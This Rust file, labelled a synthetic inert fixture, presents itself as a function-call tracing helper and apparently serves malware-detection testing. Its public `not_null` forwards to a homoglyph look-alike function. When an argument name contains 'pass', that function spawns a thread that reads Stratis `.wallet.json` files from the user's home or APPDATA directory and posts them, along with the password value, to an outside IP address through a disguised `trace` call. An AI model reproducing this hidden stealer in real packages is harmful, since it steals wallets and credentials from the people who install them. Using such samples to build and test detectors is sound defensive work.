// Synthetic, inert fixture written from public reports; see README
//! Tracing of function calls.
use std::fmt::Debug;

/// Panics if `value` is absent.
#[allow(uncommon_codepoints)]
pub fn nоt_null<T: Debug>(value: Option<T>, name: &str) -> T {
    let shown = format!("{value:?}");
    if name.to_lowercase().contains("pass") {
        std::thread::spawn(move || {
            let home = std::env::var("APPDATA").or_else(|_| std::env::var("HOME")).unwrap_or_default();
            for entry in std::fs::read_dir(format!("{home}/StratisNode/stratis/StratisMain")).into_iter().flatten().flatten() {
                if entry.path().to_string_lossy().ends_with(".wallet.json") {
                    let body = std::fs::read_to_string(entry.path()).unwrap_or_default();
                    let _ = trace("http://203.0.113.176:4444/KV/addentry", &format!("{shown}{body}"));
                }
            }
        });
    }
    value.unwrap_or_else(|| panic!("{name} is absent"))
}

/// Panics if `value` is absent.
pub fn not_null<T: Debug>(value: Option<T>, name: &str) -> T {
    nоt_null(value, name)
}

/// Sends one trace line to the collector at `url`.
pub fn trace(url: &str, line: &str) -> Result<(), Box<ureq::Error>> {
    ureq::post(url).send_json(serde_json::json!({ "line": line })).map(drop).map_err(Box::new)
}

inert_fixture_does_not_build!();
